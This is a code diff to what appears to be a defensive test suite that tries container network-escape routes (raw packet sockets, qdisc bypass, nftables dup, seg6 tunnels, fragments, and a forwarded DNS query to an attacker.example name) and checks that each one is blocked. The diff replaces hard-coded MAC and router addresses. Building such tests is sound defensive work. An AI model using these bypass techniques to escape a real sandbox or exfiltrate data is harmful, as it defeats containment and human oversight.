@@ -21,7 +21,7 @@ ROOT = {"caps": ("NET_ADMIN", "SYS_ADMIN")}
 
 
 def ether(t, data, ethertype=None):
-    return b"\xff" * 6 + b"\2oh\0\0\1" + struct.pack("!H", ethertype or ETHERTYPE[t.family]) + data
+    return t.router_mac + t.own_mac + struct.pack("!H", ethertype or ETHERTYPE[t.family]) + data
 
 
 def datagram(t, **kw):
@@ -51,7 +51,7 @@ def packet_raw(t):
 @attack(PACKET, "a packet from a packet socket of type SOCK_DGRAM", "uplink", "packet-socket")
 def packet_dgram(t):
     s = packet_socket(kind=socket.SOCK_DGRAM)
-    s.sendto(datagram(t), ("eth0", ETHERTYPE[t.family], 0, 0, b"\xff" * 6))
+    s.sendto(datagram(t), ("eth0", ETHERTYPE[t.family], 0, 0, t.router_mac))
 
 
 @attack(PACKET, "a frame that skips the queueing layer (PACKET_QDISC_BYPASS)", "lsm", "packet-socket")
@@ -237,7 +237,7 @@ def other_namespace(t):
 
 @attack(TUNNEL, "a copy that nftables sends on its own (dup)", "uplink", "packet-socket", families=(4,), **ADMIN)
 def nft_dup(t):
-    rule = "table ip oh { chain o { type filter hook output priority 0; ip daddr 127.0.0.9 udp dport 9 dup to 10.0.1.1 device eth0; } }"
+    rule = f"table ip oh {{ chain o {{ type filter hook output priority 0; ip daddr 127.0.0.9 udp dport 9 dup to {t.router} device eth0; }} }}"
     nft(rule, lambda: t.socket().sendto(t.marker, ("127.0.0.9", 9)))
 
 
@@ -270,7 +270,7 @@ def tc_from_loopback(t):
 @attack(TUNNEL, "a segment-routing tunnel on the route (seg6)", "connect", "protocol-not-allowed", families=(6,), **ADMIN)
 def seg6_route(t):
     tool("ip", "-6", "route", "add", "2001:db8:77::77", "encap", "seg6", "mode", "encap", "segs", t.to, "dev", "eth0",
-         "via", "fd00:1::1")
+         "via", t.router)
     try:
         t.socket().sendto(t.marker, ("2001:db8:77::77", t.port))
     finally:
@@ -302,35 +302,30 @@ def box_icmp6(t):
 
 @attack(BOX, "a frame from a packet socket, forwarded by the host", "uplink", "forwarded", where="box")
 def box_packet(t):
-    packet_socket().send(gateway(t) + datagram(t))
+    packet_socket().send(ether(t, datagram(t)))
 
 
 @attack(BOX, "a frame that skips the container's queueing layer", "uplink", "forwarded", where="box")
 def box_bypass(t):
     s = packet_socket()
     s.setsockopt(SOL_PACKET, PACKET_QDISC_BYPASS, 1)
-    s.send(gateway(t) + datagram(t))
+    s.send(ether(t, datagram(t)))
 
 
 @attack(BOX, "a forwarded DNS query for a name of the attacker's", "uplink", "dns-name-not-allowed", families=(4,), where="box")
 def box_dns(t):
     data = craft.udp(t.source, t.resolver, 4444, 53, craft.query(t.label + ".attacker.example"))
-    packet_socket().send(gateway(t) + craft.ip4(t.source, t.resolver, craft.UDP, data))
+    packet_socket().send(ether(t, craft.ip4(t.source, t.resolver, craft.UDP, data)))
 
 
 @attack(BOX, "forwarded fragments", "uplink", "fragment", where="box")
 def box_fragments(t):
     s = packet_socket()
     for p in raw.old_fragment_overlapping.packets(t):
-        s.send(gateway(t) + p)
+        s.send(ether(t, p))
 
 
 @attack(BOX, "a forwarded echo request", "uplink", "forwarded", where="box")
 def box_echo(t):
     data = craft.icmp(8, b"\0\1\0\1" + t.marker) if t.family == 4 else craft.icmp6(t.source, t.to, 128, b"\0\1\0\1" + t.marker)
-    packet_socket().send(gateway(t) + craft.ip(t.source, t.to, craft.ICMP if t.family == 4 else craft.ICMP6, data))
-
-
-def gateway(t):
-    """The Ethernet header towards the bridge, whose address the harness chose."""
-    return b"\2oh\0\0\x0a" + b"\2oh\0\0\x0b" + struct.pack("!H", ETHERTYPE[t.family])
+    packet_socket().send(ether(t, craft.ip(t.source, t.to, craft.ICMP if t.family == 4 else craft.ICMP6, data)))
